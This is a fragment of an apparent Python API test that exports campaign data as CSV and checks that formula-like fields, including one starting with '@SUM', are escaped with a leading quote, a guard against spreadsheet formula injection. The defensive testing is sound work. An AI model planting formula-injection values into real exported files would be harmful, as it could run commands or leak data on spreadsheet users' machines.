    exported = client.post("/api/v1/campaigns/export", json={"ids": [made["id"]], "format": "csv"})
    assert exported.status_code == 200, exported.text[:300]
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))
    [row] = [r for r in rows[1:] if r[0] == str(made["id"])]
    assert row[2] == "'" + formula
    assert row[10].startswith("'@SUM")

    def called() -> list[dict[str, str]] | None:
        report = client.get(f"/api/v1/campaigns/{made['id']}/report", params={"format": "csv"})
        text = report.content.decode("utf-8-sig")
        rows = [r for r in csv.DictReader(io.StringIO(text, newline="")) if r["outcome"]]
        return rows or None

    calls = wait_for(called, 60, 0.3, "a call row in the report")
    assert calls[0]["phone"] == "+79161234569"  # the service's own E.164, no quote
